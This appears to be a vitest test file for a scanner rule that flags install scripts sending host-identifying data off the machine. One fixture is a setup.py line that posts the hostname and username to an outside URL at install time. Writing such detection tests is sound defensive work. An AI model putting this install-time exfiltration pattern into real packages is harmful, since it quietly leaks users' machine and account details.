import { expect, it } from 'vitest'
import { findInCode } from '../code-rule.test-support.ts'
import { rule } from './host-fingerprint-exfiltration.ts'

const find = (files: Readonly<Record<string, string>>): Promise<unknown> => findInCode(rule, files)

it('blocks host data that are sent at install', async () => {
  expect(
    await find({
      'setup.py':
        "import socket, getpass, requests\nrequests.get('https://example.org/?h=' + socket.gethostname() + getpass.getuser())\n",
    }),
  ).toEqual([['block', 'setup.py', 2, true]])
})

it('leaves a host name that stays here', async () => {
  expect(
    await find({
      'demo/__init__.py': 'import socket\nHOST = socket.gethostname()\n',
    }),
  ).toEqual([])
})
